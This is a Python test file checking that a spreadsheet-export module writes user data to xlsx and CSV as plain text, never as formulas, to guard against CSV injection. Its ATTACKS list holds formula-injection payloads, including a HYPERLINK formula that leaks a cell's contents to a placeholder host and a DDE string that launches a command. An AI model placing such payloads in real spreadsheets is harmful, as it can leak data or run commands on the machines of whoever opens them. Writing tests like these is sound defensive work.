"""Cells written from user data are data, never formulas (OWASP CSV injection), in xlsx and CSV alike."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from anju.domain.sheets import csv_row, csv_value, xlsx_row, xlsx_text, xlsx_value

ATTACKS = ['=HYPERLINK("http://example.invalid/?d="&A1,"点我查看")', "+1", "-2+3", "@SUM(1)", "=1+1", "\t=cmd|' /C calc'!A0",
           "\r=2", "=", "#N/A", "#DIV/0!"]


def read_back(values: list[object], *, write_only: bool) -> list[tuple[object, str]]:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, values))
    buffer = io.BytesIO()
    book.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue()))
    return [(c.value, c.data_type) for c in loaded.worksheets[0][1]]


@settings(deadline=None, max_examples=300)
@given(text=st.text(max_size=60), write_only=st.booleans())
def test_any_string_reads_back_from_xlsx_as_the_same_text_never_a_formula(text, write_only):
    (value, data_type), = read_back([text], write_only=write_only)
    assert data_type != "f"
    assert (value or "") == xlsx_text(text)


@settings(deadline=None, max_examples=300)
@given(text=st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60).filter(
    lambda t: "\r" not in t and all(ord(c) >= 0x20 or c in "\t\n" for c in t) and "\ufffe" not in t
    and "\uffff" not in t))
def test_text_an_xlsx_can_hold_is_kept_exactly(text):
    assert xlsx_text(text) == text


@settings(deadline=None, max_examples=300)
@given(text=st.text(max_size=60))
def test_any_string_reads_back_from_csv_equal_after_removing_the_one_added_quote(text):
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerow(csv_row([text, 7]))
    (value, seven), = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert seven == "7"
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert value == "'" + text
        value = value[1:]
    assert value == text


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("write_only", [True, False])
def test_formula_shaped_text_is_written_as_text(attack, write_only):
    (value, data_type), = read_back([attack], write_only=write_only)
    assert data_type == "s" and value == xlsx_text(attack)


@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_a_csv_cell_that_would_start_a_formula_gets_one_quote(attack):
    assert csv_value(attack) == "'" + attack


def test_real_numbers_stay_numbers():
    values = [12, -3, Decimal("-1250.50"), 75.36, datetime.date(2021, 5, 1), None, True]
    read = read_back(values, write_only=True)
    assert [v for v, _ in read[:4]] == [12, -3, -1250.5, 75.36]
    assert [t for _, t in read[:4]] == ["n", "n", "n", "n"]
    assert read[4][0] == datetime.datetime(2021, 5, 1)
    assert read[5][0] is None and read[6][0] is True
    assert csv_row([-3, Decimal("-1.50"), None]) == [-3, Decimal("-1.50"), None]


def test_the_sheet_value_of_plain_text_is_the_text_itself():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    assert xlsx_value(sheet, "王秀兰") == "王秀兰" and xlsx_value(sheet, "3-1-501") == "3-1-501"
